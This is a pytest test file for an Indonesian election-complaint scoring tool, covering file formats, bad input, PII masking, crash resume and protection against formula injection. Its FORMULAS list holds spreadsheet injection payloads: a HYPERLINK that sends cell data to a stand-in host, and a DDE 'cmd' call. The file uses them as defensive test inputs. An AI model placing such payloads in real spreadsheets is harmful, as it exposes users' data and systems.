"""Batch scoring: formats, bad input, row accounting, resume, PII (on a tiny TF-IDF model)."""

import csv
import json

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from netralitas_nlp import score, train
from netralitas_nlp.config import load_config
from netralitas_nlp.labels import LABELS
from netralitas_nlp.scoring import service


@pytest.fixture(scope="module")
def model_dir(tmp_path_factory):
    from conftest import TINY, write_jsonl

    d = tmp_path_factory.mktemp("score")
    rows = [{"text": t, "labels": labs} for t, labs in TINY]
    p = write_jsonl(d / "all.jsonl", rows)
    cfg = load_config(None, ["model=tfidf", f"train=[{p}]", f"dev={p}", f"test={p}", f"output={d / 'm'}", "tfidf_min_df=1"])
    return str(train.train(cfg))


def run(model_dir, inp, out, *extra):
    return score.main(["--model", model_dir, str(inp), "-o", str(out), *extra])


def read_csv(path):
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_csv_keeps_columns_order_and_adds_scores(tmp_path, model_dir):
    inp = tmp_path / "in.csv"
    inp.write_text(
        'no,uraian,unit\n7,"Kades bagi amplop buat coblos caleg",Desa A\n8,,Desa B\n9,"Jalan desa rusak parah",Desa C\n', encoding="utf-8"
    )
    out = tmp_path / "out.csv"
    assert run(model_dir, inp, out) == 0
    rows = read_csv(out)
    assert [r["no"] for r in rows] == ["7", "8", "9"]
    assert list(rows[0])[:3] == ["no", "uraian", "unit"]
    assert set(rows[0]) >= {f"p_{lab}" for lab in LABELS} | {"labels", "priority", "evidence", "status"}
    assert rows[0]["status"] == "ok" and "money_politics" in rows[0]["labels"].split(";")
    assert rows[1]["status"] == "empty text" and rows[1]["p_intimidation"] == ""
    assert 0 <= float(rows[2]["priority"]) <= 100
    rejects = read_csv(tmp_path / "out.rejects.csv")
    assert rejects == [{"row": "2", "id": "8", "reason": "empty text"}]
    assert not (tmp_path / "out.csv.partial.jsonl").exists()


def test_jsonl_and_xlsx_round_trip(tmp_path, model_dir):
    inp = tmp_path / "in.jsonl"
    inp.write_text(
        json.dumps({"id": "a", "isi": "Camat ancam mutasi staf\x0b kalau tidak pilih no 3\x00", "anon": True})
        + "\n"
        + json.dumps({"id": "b", "isi": 12345})
        + "\n",
        encoding="utf-8",
    )
    out = tmp_path / "out.jsonl"
    assert run(model_dir, inp, out) == 0
    a, b = [json.loads(x) for x in out.read_text().splitlines()]
    assert a["anon"] is True and a["status"] == "ok" and b["status"] == "not text (int)"
    xlsx = tmp_path / "out.xlsx"
    assert run(model_dir, inp, xlsx) == 0
    sheet = openpyxl.load_workbook(xlsx).active
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["id", "isi", "anon"] and header[-1] == "status" and sheet.max_row == 3
    assert sheet.cell(2, 2).value == "Camat ancam mutasi staf kalau tidak pilih no 3"  # control characters Excel refuses


def test_excel_input_with_sheet_and_control_characters(tmp_path, model_dir):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Rekap"
    ws.append(["ID Laporan", "Isi Laporan"])
    ws.append(["L-1", "Lurah bagi sembako dari timses \u00e9 \u00ff"])
    other = wb.create_sheet("Aduan")
    other.append(["id", "komentar"])
    other.append(["x", "PNS sebar hoaks surat suara sudah dicoblos"])
    wb.save(tmp_path / "in.xlsx")
    out = tmp_path / "out.csv"
    assert run(model_dir, tmp_path / "in.xlsx", out, "--sheet", "Aduan") == 0
    assert read_csv(out)[0]["komentar"].startswith("PNS sebar")
    assert run(model_dir, tmp_path / "in.xlsx", out) == 0  # first sheet; "Isi Laporan" detected
    assert read_csv(out)[0]["status"] == "ok"


@pytest.mark.parametrize(
    "content,reason",
    [
        ("", "empty file"),
        ("id,text\n", "no data rows"),
        ("id,judul\n1,halo\n", "no text column found"),
        ('id,text\n1,"kutip rusak\n2,lain\n', "broken CSV"),
    ],
)
def test_bad_files_give_clear_errors(tmp_path, model_dir, capsys, content, reason):
    inp = tmp_path / "bad.csv"
    inp.write_text(content, encoding="utf-8")
    assert run(model_dir, inp, tmp_path / "o.csv") == 2
    err = capsys.readouterr().err
    assert reason in err and "bad.csv" in err


def test_wrong_encoding_and_huge_cell(tmp_path, model_dir):
    inp = tmp_path / "in.csv"
    inp.write_bytes("text\nPak Camat bilang “pilih nomor 2”\n".encode("cp1252") + b"\n" + ("x" * 1_000_001).encode() + b"\n")
    out = tmp_path / "out.csv"
    assert run(model_dir, inp, out) == 0
    a, b = read_csv(out)
    assert a["text"] == "Pak Camat bilang “pilih nomor 2”" and a["status"] == "ok"
    assert b["status"].startswith("text longer than 100000 characters")


def test_mask_pii_in_text_and_evidence(tmp_path, model_dir):
    inp = tmp_path / "in.csv"
    inp.write_text('text\n"Kades bagi amplop buat coblos caleg, hub 081234567890 atau budi@contoh.id NIK 3273012505800001"\n')
    out = tmp_path / "out.csv"
    assert run(model_dir, inp, out, "--mask-pii") == 0
    row = read_csv(out)[0]
    assert "081234567890" not in row["text"] and "[TELEPON]" in row["text"] and "[EMAIL]" in row["text"] and "[NIK]" in row["text"]
    assert "0812" not in row["evidence"]


def test_resume_after_crash_loses_and_repeats_nothing(tmp_path, model_dir, monkeypatch):
    inp = tmp_path / "in.csv"
    inp.write_text("id,text\n" + "".join(f"{i},teks nomor {i} kades bagi amplop\n" for i in range(25)), encoding="utf-8")
    out = tmp_path / "out.csv"
    real = service.score_chunk
    calls = {"n": 0}

    def crashing(*a, **k):
        calls["n"] += 1
        if calls["n"] == 3:
            raise KeyboardInterrupt("simulated crash")
        return real(*a, **k)

    monkeypatch.setattr(service, "score_chunk", crashing)
    with pytest.raises(KeyboardInterrupt):
        run(model_dir, inp, out, "--chunk-size", "10")
    assert not out.exists() and (tmp_path / "out.csv.progress.json").exists()
    # Simulate a torn write after the last checkpoint: resume must cut it off.
    with open(tmp_path / "out.csv.partial.jsonl", "a") as f:
        f.write('{"row": 999, "fields": {"half')
    monkeypatch.setattr(service, "score_chunk", real)
    assert run(model_dir, inp, out, "--chunk-size", "10", "--resume") == 0
    assert [r["id"] for r in read_csv(out)] == [str(i) for i in range(25)]


@given(
    st.lists(
        st.one_of(st.text(max_size=30), st.just(""), st.just("   "), st.sampled_from(["kades bagi amplop", "camat ancam mutasi"])),
        min_size=1,
        max_size=25,
    )
)
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_row_accounting(tmp_path, model_dir, texts):
    inp = tmp_path / "in.jsonl"
    inp.write_text("".join(json.dumps({"id": i, "text": t}) + "\n" for i, t in enumerate(texts)), encoding="utf-8")
    out = tmp_path / "out.jsonl"
    assert run(model_dir, inp, out, "--chunk-size", "7") == 0
    rows = [json.loads(x) for x in out.read_text(encoding="utf-8").split("\n") if x]  # not splitlines: U+0085 is text
    assert [r["id"] for r in rows] == list(range(len(texts)))
    ok = sum(r["status"] == "ok" for r in rows)
    with open(tmp_path / "out.rejects.csv", encoding="utf-8-sig") as f:
        rejected = len(f.read().splitlines()) - 1
    assert ok + rejected == len(texts)
    assert all((r["status"] == "ok") == bool(str(t).strip()) for r, t in zip(rows, texts))


def test_evidence_modes(tmp_path, model_dir):
    inp = tmp_path / "in.csv"
    inp.write_text('text\n"Kades bagi amplop buat coblos caleg pas serangan fajar"\n', encoding="utf-8")
    out = tmp_path / "out.csv"
    assert run(model_dir, inp, out, "--evidence", "none") == 0
    assert read_csv(out)[0]["evidence"] == ""
    assert run(model_dir, inp, out, "--evidence", "rules") == 0
    assert "serangan fajar" in read_csv(out)[0]["evidence"]  # a lexicon phrase
    assert run(model_dir, inp, out) == 0  # auto on a TF-IDF model: its own weights
    assert read_csv(out)[0]["evidence"].startswith("money_politics: ")


def test_score_batch_is_the_pure_core(model_dir):
    from netralitas_nlp.models import load_predictor
    from netralitas_nlp.scoring import Policy, score_batch

    predictor = load_predictor(model_dir, "auto")
    texts = ["Kades bagi amplop buat coblos caleg, hub 081234567890", "Jalan desa rusak parah"]
    recs = score_batch(predictor, texts, Policy(mask_pii=True))
    assert [list(r) for r in recs] == [[f"p_{lab}" for lab in LABELS] + ["labels", "priority", "evidence"]] * 2
    assert "money_politics" in recs[0]["labels"].split(";") and "0812" not in recs[0]["evidence"]
    assert score_batch(predictor, [], Policy()) == []


FORMULAS = ["=1+1", '=HYPERLINK("http://x.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


def test_formula_cells_are_neutralised_in_csv_and_xlsx(tmp_path, model_dir):
    inp = tmp_path / "in.jsonl"
    inp.write_text("".join(json.dumps({"id": f, "text": f + " kades bagi amplop", "n": "-5"}) + "\n" for f in FORMULAS), encoding="utf-8")
    assert run(model_dir, inp, tmp_path / "out.csv") == 0
    rows = read_csv(tmp_path / "out.csv")
    assert [r["id"] for r in rows] == ["'" + f for f in FORMULAS] and rows[0]["text"].startswith("'=")
    assert rows[0]["n"] == "-5"  # a plain number is not a formula and keeps its value
    assert run(model_dir, inp, tmp_path / "out.xlsx") == 0
    import zipfile

    sheet_xml = zipfile.ZipFile(tmp_path / "out.xlsx").read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    values = [c.value for c in openpyxl.load_workbook(tmp_path / "out.xlsx").active["A"]][1:]
    assert values[:6] == FORMULAS[:6]  # stored as text, unchanged (XML turns the lone CR into LF)
    assert run(model_dir, inp, tmp_path / "raw.csv", "--allow-formulas") == 0
    assert read_csv(tmp_path / "raw.csv")[0]["id"] == "=1+1"


def _crash_after_first_chunk(monkeypatch, model_dir, inp, out, *extra):
    real = service.score_chunk
    calls = {"n": 0}

    def crashing(*a, **k):
        calls["n"] += 1
        if calls["n"] == 2:
            raise KeyboardInterrupt("simulated crash")
        return real(*a, **k)

    monkeypatch.setattr(service, "score_chunk", crashing)
    with pytest.raises(KeyboardInterrupt):
        run(model_dir, inp, out, "--chunk-size", "5", *extra)
    monkeypatch.setattr(service, "score_chunk", real)


def _rows(n, order=1):
    return "id,text,phone\n" + "".join(f"{i},teks {i} kades bagi amplop hub 0812345678{i % 10}{i % 10},x\n" for i in range(n)[::order])


@pytest.mark.parametrize(
    "change,extra,expect",
    [
        ("reorder", (), "input"),  # same size, other order
        ("edit", (), "input"),  # one letter, same size
        ("none", ("--mask-pii",), "mask_pii"),
        ("none", ("--text-column", "phone"), "text_column"),
        ("none", ("--evidence", "none"), "evidence"),
        ("model", (), "model"),
    ],
)
def test_resume_refuses_a_changed_run(tmp_path, model_dir, monkeypatch, capsys, change, extra, expect):
    inp, out = tmp_path / "in.csv", tmp_path / "out.csv"
    inp.write_text(_rows(12), encoding="utf-8")
    _crash_after_first_chunk(monkeypatch, model_dir, inp, out)
    model = model_dir
    if change == "reorder":
        inp.write_text(_rows(12, order=-1), encoding="utf-8")
    elif change == "edit":
        inp.write_text(_rows(12).replace("teks 3", "teks 4"), encoding="utf-8")
    elif change == "model":
        import shutil

        model = str(tmp_path / "other-model")
        shutil.copytree(model_dir, model)
        (tmp_path / "other-model" / "note.txt").write_text("retrained")
    capsys.readouterr()
    assert score.main(["--model", model, str(inp), "-o", str(out), "--chunk-size", "5", "--resume", *extra]) == 2
    err = capsys.readouterr().err
    assert "cannot resume" in err and expect in err and "Traceback" not in err
    assert not out.exists()


def test_input_columns_named_like_output_columns_are_kept(tmp_path, model_dir):
    inp = tmp_path / "in.csv"
    inp.write_text(
        "id,text,status,labels,priority,evidence,p_hoax_hate,nn_status\n"
        '1,"kades bagi amplop",Selesai,money_politics,Tinggi,foto,0.9,x\n2,,Baru,,Rendah,,,y\n',
        encoding="utf-8",
    )
    out = tmp_path / "out.csv"
    assert run(model_dir, inp, out) == 0
    a, b = read_csv(out)
    assert (a["status"], a["labels"], a["priority"], a["evidence"], a["p_hoax_hate"], a["nn_status"]) == (
        "Selesai",
        "money_politics",
        "Tinggi",
        "foto",
        "0.9",
        "x",
    )
    assert a["nn_nn_status"] == "ok" and "money_politics" in a["nn_labels"] and float(a["nn_priority"]) > 0
    assert a["nn_p_hoax_hate"] != "0.9" and a["p_money_politics"] != ""  # no collision, no prefix
    assert b["status"] == "Baru" and b["nn_nn_status"] == "empty text"
    assert read_csv(tmp_path / "out.rejects.csv") == [{"row": "2", "id": "2", "reason": "empty text"}]


@pytest.mark.parametrize("how", ["same", "dotdot", "rejects", "xlsx"])
def test_output_or_rejects_equal_to_input_is_refused(tmp_path, model_dir, capsys, how):
    (tmp_path / "sub").mkdir()
    inp = tmp_path / "in.csv"
    inp.write_text("id,text\n1,kades bagi amplop\n", encoding="utf-8")
    before = inp.read_bytes()
    extra = []
    if how == "xlsx":
        wb = openpyxl.Workbook()
        wb.active.append(["id", "text"])
        wb.active.append([1, "kades bagi amplop"])
        wb.save(tmp_path / "in.xlsx")
        inp = tmp_path / "in.xlsx"
        before = inp.read_bytes()
        out = inp
    else:
        out = {"same": inp, "dotdot": tmp_path / "sub" / ".." / "in.csv", "rejects": tmp_path / "out.csv"}[how]
    if how == "rejects":
        extra = ["--rejects", str(tmp_path / "sub" / ".." / "in.csv")]
    assert run(model_dir, inp, out, *extra) == 2
    err = capsys.readouterr().err
    assert "is the input itself" in err and inp.read_bytes() == before
